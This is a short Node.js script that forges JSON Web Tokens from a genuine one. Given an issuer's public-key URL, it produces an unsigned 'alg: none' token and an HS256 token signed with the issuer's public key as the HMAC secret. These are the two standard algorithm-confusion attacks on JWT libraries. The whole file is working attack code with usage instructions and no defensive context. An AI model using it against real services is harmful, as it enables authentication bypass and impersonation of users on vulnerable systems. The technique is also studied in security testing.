// Two tokens with which JWT libraries have been confused, from a good one: its claims unsigned
// (`alg: none`), and signed by HMAC with the issuer's public key as the secret (`alg: HS256`).
//
// usage: node confuse.js KEYS_URL TOKEN

import { createHmac, createPublicKey } from 'node:crypto';

const [keysUrl, token] = process.argv.slice(2);
const { keys } = await (await fetch(keysUrl)).json();
const publicKey = createPublicKey({ key: keys[0], format: 'jwk' });
const pem = publicKey.export({ type: 'spki', format: 'pem' });
const claims = token.split('.')[1];

const unsigned = `${header('none')}.${claims}.`;
const input = `${header('HS256')}.${claims}`;
const signature = createHmac('sha256', pem).update(input).digest('base64url');
console.log(JSON.stringify({ none: unsigned, hs256: `${input}.${signature}` }));

function header(alg) {
  return Buffer.from(JSON.stringify({ alg, typ: 'JWT', kid: keys[0].kid })).toString('base64url');
}
